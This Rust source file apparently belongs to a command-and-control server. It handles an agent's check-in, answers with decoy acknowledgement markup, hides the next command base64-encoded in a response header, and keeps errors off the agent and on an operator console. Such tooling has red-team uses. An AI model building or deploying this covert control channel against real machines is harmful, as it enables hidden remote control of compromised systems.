//! The agent cycle endpoint.
//!
//! `POST` (any path) with an envelope body. The response is always `200`:
//!
//! | Part                    | Content                                         |
//! |-------------------------|-------------------------------------------------|
//! | Body                    | Acknowledgment markup, or base64 upload content |
//! | `command_header` header | Base64 next command                             |
//!
//! Errors never reach the agent; they are shown on the operator console.
//! That includes envelopes over `server.max_body_bytes`, which are discarded
//! and answered as if the body were empty.

use std::sync::atomic::Ordering;

use axum::{
    body::{self, Bytes},
    extract::State,
    http::HeaderValue,
    response::{Html, IntoResponse, Response},
};
use tracing::{debug, warn};

use crate::dispatch::{self, Body, Operator, Reply};
use crate::envelope::{self, Envelope, Tone};
use crate::AppState;

/// `POST /` (any path): run one cycle.
pub async fn cycle(State(state): State<AppState>, request: body::Body) -> Response {
    let limit = state.config.server.max_body_bytes;
    let raw: Result<Bytes, _> = body::to_bytes(request, limit).await;

    // Taken before decoding so cycles never overlap.
    let mut session = state.session.lock().await;
    let seq = state.cycles.fetch_add(1, Ordering::Relaxed) + 1;

    let envelope = match raw {
        Ok(bytes) => {
            debug!(cycle = seq, size = bytes.len(), "Cycle started");
            envelope::decode(&bytes)
        }
        Err(e) => {
            warn!(cycle = seq, limit, "Envelope discarded: {e}");
            state.console.report(
                &format!("[!] Error: Envelope unreadable or over {limit} bytes, discarded!"),
                Tone::Error,
            );
            Envelope::empty()
        }
    };
    let reply = dispatch::run_cycle(&mut session, envelope, &state.console).await;
    drop(session);

    debug!(cycle = seq, command = %reply.command, "Cycle finished");
    into_response(&state, reply)
}

fn into_response(state: &AppState, reply: Reply) -> Response {
    let mut response = match reply.body {
        Body::Acknowledge => Html(state.config.server.acknowledgement.clone()).into_response(),
        Body::Upload(content) => content.into_response(),
    };
    match HeaderValue::from_str(&envelope::encode_command(&reply.command)) {
        Ok(value) => {
            response
                .headers_mut()
                .insert(state.command_header.clone(), value);
        }
        Err(e) => warn!("Command could not be encoded as a header: {e}"),
    }
    response
}
